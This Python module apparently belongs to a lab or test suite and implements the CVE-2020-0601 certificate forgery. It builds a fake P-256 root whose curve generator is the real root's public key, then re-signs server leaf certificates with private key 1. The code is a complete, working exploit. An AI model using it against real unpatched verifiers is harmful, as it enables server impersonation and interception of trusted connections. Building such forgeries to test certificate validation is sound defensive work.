"""Forge a root for which anyone can sign: the forger chooses the generator of its curve.

This is the attack of CVE-2020-0601. A public key is the product of the private key and the
generator of the curve. If a forged root has the public key of a real root, and the same point as
generator, its private key is 1. A verifier that compares only the public key with its trusted
roots, and not the parameters of the curve, mistakes the forged root for the real one.
"""

from __future__ import annotations

import secrets
from dataclasses import dataclass, replace
from typing import TYPE_CHECKING

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from cryptography.x509.oid import PublicKeyAlgorithmOID

from certpin.lab.forge import der

if TYPE_CHECKING:
    from certpin.lab.authority import Identity

# secp256r1 (SEC 2 version 2.0, section 2.4.2).
PRIME = 2**256 - 2**224 + 2**192 + 2**96 - 1
A = PRIME - 3
B = 0x5AC635D8_AA3A93E7_B3EBBD55_769886BC_651D06B0_CC53B0F6_3BCE3C3E_27D2604B
ORDER = 0xFFFFFFFF_00000000_FFFFFFFF_FFFFFFFF_BCE6FAAD_A7179E84_F3B9CAC2_FC632551

_PRIME_FIELD = x509.ObjectIdentifier("1.2.840.10045.1.1")  # RFC 3279 section 2.3.5
_OCTETS = 32


@dataclass(frozen=True)
class ForgedRoot:
    """A forged copy of a root on P-256. It can sign as if it had the root's private key.

    The copy has the root's public point, and explicit curve parameters with this point as generator
    (CVE-2020-0601).

    Attributes:
        real_chain: the certificate of the real root.
    """

    real_chain: x509.Certificate

    @property
    def certificate(self) -> x509.Certificate:
        """The forged root as a certificate.

        Its signature is valid for a verifier that uses the generator in the certificate.
        """
        parts = der.take_apart(self.real_chain)
        info = der.encode(_public_key_info(self._point))
        tbs = replace(parts.tbs_certificate, subject_public_key_info=der.field(info))
        return self._signed(replace(parts, tbs_certificate=tbs))

    def sign(self, identity: Identity) -> Identity:
        """Return a server's identity with its leaf signed again by this forged root.

        The chain of the result is the leaf and the forged root. The leaf keeps its signature
        algorithm.
        """
        leaf = self._signed(der.take_apart(identity.chain[0]))
        return replace(identity, chain=(leaf, self.certificate))

    def _signed(self, parts: der.CertificateFields) -> x509.Certificate:
        value = self._sign(der.encode(parts.tbs_certificate))
        return der.put_together(replace(parts, signature_value=der.bits(value)))

    def _sign(self, message: bytes) -> bytes:
        """Return an ECDSA signature of a message with SHA-256 and the private key 1.

        See SEC 1 version 2.0, section 4.1.3. A signature needs a multiple of the generator, which
        is the public point of the root here. ``cryptography`` computes this multiple by a
        Diffie-Hellman exchange with the point as the peer's public key.
        """
        digest = hashes.Hash(hashes.SHA256())
        digest.update(message)
        hashed = int.from_bytes(digest.finalize())
        once = secrets.randbelow(ORDER - 1) + 1
        shared = ec.derive_private_key(once, ec.SECP256R1()).exchange(ec.ECDH(), self._key)
        r = int.from_bytes(shared) % ORDER
        s = pow(once, -1, ORDER) * (hashed + r) % ORDER
        return encode_dss_signature(r, s)

    @property
    def _key(self) -> ec.EllipticCurvePublicKey:
        key = self.real_chain.public_key()
        if not isinstance(key, ec.EllipticCurvePublicKey) or key.curve.name != "secp256r1":
            raise ValueError("only a root on P-256 can be forged")
        return key

    @property
    def _point(self) -> bytes:
        return self._key.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)


def _public_key_info(point: bytes) -> der.ECPublicKeyInfo:
    parameters = der.ECParameters(
        version=1,
        field_id=der.FieldID(field_type=_PRIME_FIELD, prime=der.number(PRIME)),
        curve=der.Curve(a=A.to_bytes(_OCTETS), b=B.to_bytes(_OCTETS)),
        base=point,
        order=der.number(ORDER),
        cofactor=1,
    )
    oid = PublicKeyAlgorithmOID.EC_PUBLIC_KEY
    algorithm = der.ECAlgorithm(algorithm=oid, parameters=parameters)
    return der.ECPublicKeyInfo(algorithm=algorithm, subject_public_key=der.bits(point))
